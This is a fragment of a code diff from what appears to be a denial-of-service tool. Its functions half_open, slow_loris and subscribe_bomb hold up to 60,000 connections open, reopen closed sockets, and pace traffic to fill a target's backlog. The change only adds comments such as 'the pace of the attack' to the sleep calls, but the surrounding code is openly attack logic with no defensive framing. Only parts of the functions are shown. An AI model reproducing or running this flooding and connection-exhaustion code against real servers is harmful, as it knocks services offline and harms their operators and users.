@@ -40,7 +40,7 @@ def again(end, attack):
         try:
             attack()
         except OSError:
-            time.sleep(0.01)
+            time.sleep(0.01)  # his pace
 
 
 def half_open(end):
@@ -50,9 +50,9 @@ def half_open(end):
         if len(held) < min(limit, 60_000):
             held.append(dial())
             if len(held) % 100 == 0:
-                time.sleep(0.005)
+                time.sleep(0.005)  # a pace that the boxes' backlog can take
         else:
-            time.sleep(0.1)
+            time.sleep(0.1)  # holds them until the end
 
 
 def slow_loris(end):
@@ -70,7 +70,7 @@ def slow_loris(end):
                 one.close()
                 held[number] = dial()
         at += 1
-        time.sleep(1)
+        time.sleep(1)  # the pace of the attack
 
 
 def subscribe_bomb(end):
